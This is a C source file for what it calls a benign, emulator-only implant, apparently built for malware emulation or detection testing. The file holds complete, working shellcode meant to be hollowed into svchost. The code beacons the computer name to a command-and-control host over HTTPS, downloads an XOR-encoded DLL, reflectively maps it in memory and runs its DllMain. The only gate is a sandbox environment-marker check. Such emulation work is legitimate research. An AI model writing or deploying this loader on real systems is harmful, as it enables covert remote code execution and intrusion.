/*
 * implant.c - combo-hollow-beacon: the code hollowed into svchost (benign, emulator-only).
 *
 * Position independent, one function, no data (flattened by ../../lineage-common/rules.mk). It
 * finds its context block at IMPLANT_CTX_OFFSET from its own start (a hollowed thread gets no
 * argument), checks the sandbox marker, reads the computer name, POSTs "id=<name>" to the C2
 * over WinHTTP (HTTPS), reads the answer into new memory, XORs it with a 4-byte key (a DLL),
 * maps the DLL by hand (headers, sections, base relocations, imports through LoadLibraryA +
 * GetProcAddress, section protections) and calls its DllMain with ctx->module_arg.
 * Returns 0 ok, 1 no marker, 2 network, 3 memory, 4 not a PE, 5 imports, 6 DllMain.
 */
#include "implant.h"

static inline __attribute__((always_inline)) DWORD protect_of(DWORD ch)
{
    int x = (ch & IMAGE_SCN_MEM_EXECUTE) != 0, w = (ch & IMAGE_SCN_MEM_WRITE) != 0;
    if (x)
        return w ? PAGE_EXECUTE_READWRITE : PAGE_EXECUTE_READ;
    return w ? PAGE_READWRITE : PAGE_READONLY;
}

DWORD WINAPI sc_main(void *unused)
{
    typedef BOOL (WINAPI *dllmain_t)(HINSTANCE, DWORD, LPVOID);
    struct implant_ctx *c = (struct implant_ctx *)((ULONG_PTR)&sc_main + IMPLANT_CTX_OFFSET);
    char buf[16], body[64];
    DWORD n, i, len, got, total, old, size;
    HINTERNET hs, hc, hr;
    unsigned char *file, *base;
    IMAGE_NT_HEADERS *nt;
    IMAGE_SECTION_HEADER *sec;
    IMAGE_DATA_DIRECTORY *dir;
    ULONG_PTR delta;
    (void)unused;

    n = c->pGetEnvironmentVariableA(c->marker_name, buf, sizeof(buf));
    for (i = 0; i < n && c->marker_value[i] && buf[i] == c->marker_value[i]; i++)
        ;
    if (n == 0 || i != n || c->marker_value[i])
        return 1;
    for (len = 0; c->body_prefix[len]; len++)
        body[len] = c->body_prefix[len];
    n = sizeof(body) - len - 1;
    if (!c->pGetComputerNameA(body + len, &n))
        return 2;
    len += n;
    hs = c->pWinHttpOpen(c->agent, WINHTTP_ACCESS_TYPE_DEFAULT_PROXY, 0, 0, 0);
    if (!hs)
        return 2;
    hc = c->pWinHttpConnect(hs, c->host, INTERNET_DEFAULT_HTTPS_PORT, 0);
    if (!hc)
        return 2;
    hr = c->pWinHttpOpenRequest(hc, c->verb, c->path, 0, 0, 0, WINHTTP_FLAG_SECURE);
    if (!hr || !c->pWinHttpSendRequest(hr, c->headers, (DWORD)-1, body, len, len, 0) ||
        !c->pWinHttpReceiveResponse(hr, 0))
        return 2;
    file = (unsigned char *)c->pVirtualAlloc(0, 0x10000, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!file)
        return 3;
    total = 0;
    while (total < 0x10000 && c->pWinHttpReadData(hr, file + total, 0x10000 - total, &got) && got)
        total += got;
    c->pWinHttpCloseHandle(hr);
    c->pWinHttpCloseHandle(hc);
    c->pWinHttpCloseHandle(hs);
    for (i = 0; i < total; i++)
        file[i] ^= (unsigned char)(c->key >> (8 * (i & 3)));
    if (total < 0x200 || file[0] != 'M' || file[1] != 'Z')
        return 4;
    nt = (IMAGE_NT_HEADERS *)(file + ((IMAGE_DOS_HEADER *)file)->e_lfanew);
    if (nt->Signature != IMAGE_NT_SIGNATURE)
        return 4;
    size = nt->OptionalHeader.SizeOfImage;
    base = (unsigned char *)c->pVirtualAlloc(0, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!base)
        return 3;
    for (i = 0; i < nt->OptionalHeader.SizeOfHeaders; i++)
        base[i] = file[i];
    sec = IMAGE_FIRST_SECTION(nt);
    for (i = 0; i < nt->FileHeader.NumberOfSections; i++) {
        DWORD j;
        for (j = 0; j < sec[i].SizeOfRawData; j++)
            base[sec[i].VirtualAddress + j] = file[sec[i].PointerToRawData + j];
    }
    delta = (ULONG_PTR)base - (ULONG_PTR)nt->OptionalHeader.ImageBase;
    dir = &nt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_BASERELOC];
    if (delta && dir->Size) {
        IMAGE_BASE_RELOCATION *rel = (IMAGE_BASE_RELOCATION *)(base + dir->VirtualAddress);
        while (rel->VirtualAddress && rel->SizeOfBlock) {
            WORD *item = (WORD *)(rel + 1);
            DWORD k = (rel->SizeOfBlock - sizeof(*rel)) / sizeof(WORD);
            for (i = 0; i < k; i++)
                if ((item[i] >> 12) == IMAGE_REL_BASED_DIR64)
                    *(ULONG_PTR *)(base + rel->VirtualAddress + (item[i] & 0xfff)) += delta;
            rel = (IMAGE_BASE_RELOCATION *)((unsigned char *)rel + rel->SizeOfBlock);
        }
    }
    dir = &nt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_IMPORT];
    if (dir->Size) {
        IMAGE_IMPORT_DESCRIPTOR *imp = (IMAGE_IMPORT_DESCRIPTOR *)(base + dir->VirtualAddress);
        for (; imp->Name; imp++) {
            HMODULE mod = c->pLoadLibraryA((char *)(base + imp->Name));
            IMAGE_THUNK_DATA *names = (IMAGE_THUNK_DATA *)(base + (imp->OriginalFirstThunk ? imp->OriginalFirstThunk : imp->FirstThunk));
            IMAGE_THUNK_DATA *iat = (IMAGE_THUNK_DATA *)(base + imp->FirstThunk);
            if (!mod)
                return 5;
            for (; names->u1.AddressOfData; names++, iat++) {
                IMAGE_IMPORT_BY_NAME *by = (IMAGE_IMPORT_BY_NAME *)(base + names->u1.AddressOfData);
                iat->u1.Function = (ULONG_PTR)c->pGetProcAddress(mod, (char *)by->Name);
                if (!iat->u1.Function)
                    return 5;
            }
        }
    }
    nt = (IMAGE_NT_HEADERS *)(base + ((IMAGE_DOS_HEADER *)base)->e_lfanew);
    sec = IMAGE_FIRST_SECTION(nt);
    for (i = 0; i < nt->FileHeader.NumberOfSections; i++)
        c->pVirtualProtect(base + sec[i].VirtualAddress, sec[i].Misc.VirtualSize, protect_of(sec[i].Characteristics), &old);
    if (!((dllmain_t)(void *)(base + nt->OptionalHeader.AddressOfEntryPoint))((HINSTANCE)base, DLL_PROCESS_ATTACH, c->module_arg))
        return 6;
    return 0;
}
